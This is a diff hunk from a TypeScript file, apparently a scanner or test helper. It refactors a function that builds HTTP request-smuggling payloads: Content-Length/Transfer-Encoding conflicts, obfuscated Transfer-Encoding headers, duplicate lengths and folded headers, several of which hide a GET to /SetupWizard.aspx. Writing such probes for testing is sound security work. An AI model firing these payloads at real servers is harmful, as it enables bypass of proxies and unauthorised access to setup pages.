@@ -8,11 +8,11 @@ export function smuggledRequests(host: string): readonly string[] {
   const head = (...lines: string[]): string => `POST /Guest HTTP/1.1\r\nHost: ${host}\r\n${lines.join('\r\n')}\r\n\r\n`
   const hidden = `GET /SetupWizard.aspx/x HTTP/1.1\r\nHost: ${host}\r\n\r\n`
   return [
-    head('Content-Length: 4', 'Transfer-Encoding: chunked') + `0\r\n\r\n${hidden}`,
+    `${head('Content-Length: 4', 'Transfer-Encoding: chunked')}0\r\n\r\n${hidden}`,
     head('Content-Length: 0', `Content-Length: ${hidden.length}`) + hidden,
-    head('Transfer-Encoding: xchunked') + `0\r\n\r\n${hidden}`,
-    head('Transfer-Encoding : chunked') + `0\r\n\r\n${hidden}`,
-    head('Transfer-Encoding: chunked, identity') + `0\r\n\r\n${hidden}`,
+    `${head('Transfer-Encoding: xchunked')}0\r\n\r\n${hidden}`,
+    `${head('Transfer-Encoding : chunked')}0\r\n\r\n${hidden}`,
+    `${head('Transfer-Encoding: chunked, identity')}0\r\n\r\n${hidden}`,
     head('Host: other.example', 'Content-Length: 0'),
     head('Content-Length: +0'),
     head('X-Folded: a', ' b', 'Content-Length: 0'),
